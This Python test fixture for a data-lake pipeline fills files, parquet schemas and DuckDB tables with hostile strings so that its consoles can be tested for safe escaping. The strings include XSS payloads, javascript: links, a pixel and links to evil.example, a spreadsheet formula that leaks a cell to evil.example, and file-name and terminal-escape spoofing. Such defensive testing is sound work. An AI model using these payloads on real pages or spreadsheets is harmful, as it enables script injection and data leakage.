"""A home in which every name and value was written to do harm to who looks at it.

Each text would open a dialog, ask another host, or put an element marked `data-evil` into the page, if any
place took it for HTML, a link, markdown or a script. `EVIL` stands in each, so that it is found.
"""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq

from lakeside.datasets import get_dataset
from lakeside.month import Month
from lakeside.pipeline import MonthRequest, run_month
from lakeside.services import open_services
from lakeside.settings import Settings
from lakeside.sources.probe import SourceName
from lakeside.sources.sample import sample_batches
from tests.builders import write_month

EVIL = "evil"
IMAGE = "<img src=x onerror=alert(1) data-evil>"
HARM = [
    IMAGE,
    "<svg onload=alert(2) data-evil>",
    "</style></script><script data-evil>alert(3)</script>",
    '" onmouseover="alert(4)" data-evil="',
    "[evil](javascript:alert(5))",
    "![evil](http://evil.example/pixel.png)",
    '<a href="http://evil.example/" data-evil>evil</a>',
    "<iframe srcdoc='<script>alert(6)</script>' data-evil></iframe>",
    ":material/dangerous: :red[evil] $\\href{http://evil.example}{evil}$",
    '=HYPERLINK("http://evil.example/?"&A1,"evil")',
    "evil\u202egpj.exe",
    "evil\x1b[31m\x07\u200b\u2066",
    "datum['evil'];alert(7)//",
]
# What may be part of an object's key: no slash, no control character.
IN_A_KEY = [text for text in HARM if "/" not in text and "\x1b" not in text]
COLUMNS = "strange/columns.parquet"
TABLE = "evil_table"
MONTH = Month(2020, 10)


def fill_hostile_home(home: Path) -> dict[str, str]:
    """Fill lake and warehouse; the settings a console needs over and above the home."""
    source = home / "source" / "green_2020-10.csv"
    source.parent.mkdir(parents=True)
    _write_csv(source)
    archive = f"file://{source.parent}/{{dataset}}_{{year}}-{{month:02d}}.csv"
    settings = Settings(
        home=home, sources={"archive_url": archive}, ingest={"rejected_share": 1}, checks={"after_load": True}
    )
    services = open_services(settings)
    run_month(MonthRequest("green", MONTH, SourceName.ARCHIVE), services)
    write_month(
        services.lake,
        get_dataset("yellow"),
        MONTH,
        5,
        source="tlc",
        source_url="javascript:alert(8)//evil",
        source_etag=IMAGE,
        columns_added=HARM,
        columns_missing=HARM,
        rejected_by_reason=dict.fromkeys(HARM, 1),
        program_version=IMAGE,
        run_id=IMAGE,
    )
    lake = home / "lake"
    strange = make_strange()
    for text in IN_A_KEY:
        folder = lake / "strange" / text
        folder.mkdir(parents=True)
        pq.write_table(strange, folder / f"{text}.parquet")
    pq.write_table(strange.replace_schema_metadata({text: text for text in HARM}), lake / COLUMNS)
    (lake / "strange" / f"{IMAGE}.html").write_text("<!doctype html>" + "".join(HARM))
    _fill_warehouse(services.settings.warehouse_path)
    return {"LAKESIDE_SOURCES__ARCHIVE_URL": archive, "LAKESIDE_INGEST__REJECTED_SHARE": "1"}


def make_strange() -> pa.Table:
    """A column for each text, named by it and full of all of them; and one in a struct."""
    table = pa.table(dict.fromkeys(HARM, HARM))
    nested = pa.array([{text: text for text in HARM}] * len(HARM))
    return table.append_column("nested evil", nested)


def _write_csv(path: Path) -> None:
    """Trips with columns and flags of harm, and rows that are set aside for what they hold."""
    rows = pa.Table.from_batches(list(sample_batches(get_dataset("green"), MONTH, 3 * len(HARM)))).to_pylist()
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        names = list(rows[0])
        writer.writerow([*names, *HARM])
        for number, row in enumerate(rows):
            text = HARM[number % len(HARM)]
            row["store_and_fwd_flag"] = text
            if number < len(HARM):
                row["VendorID"] = text
            writer.writerow([*[row[name] for name in names], *HARM])


def _fill_warehouse(path: Path) -> None:
    """A table and a view that somebody made beside ours."""
    with duckdb.connect(str(path)) as connection:
        schema = connection.execute(
            "SELECT table_schema FROM information_schema.tables WHERE table_name = 'green'"
        ).fetchone()
        assert schema
        for name in (TABLE, IMAGE):
            target = f'"{schema[0]}".{_quote(name)}'
            columns = ", ".join(f"{_quote(text)} VARCHAR" for text in HARM)
            connection.execute(f"CREATE TABLE {target} ({columns})")
            connection.execute(f"INSERT INTO {target} VALUES ({', '.join('?' * len(HARM))})", HARM)
            connection.execute(
                f"COMMENT ON TABLE {target} IS '{''.join(HARM).replace(chr(39), chr(39) * 2)}'"
            )
        view = f'"{schema[0]}".{_quote(IMAGE + " view")}'
        connection.execute(f'CREATE VIEW {view} AS SELECT * FROM "{schema[0]}".{_quote(TABLE)}')


def _quote(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'
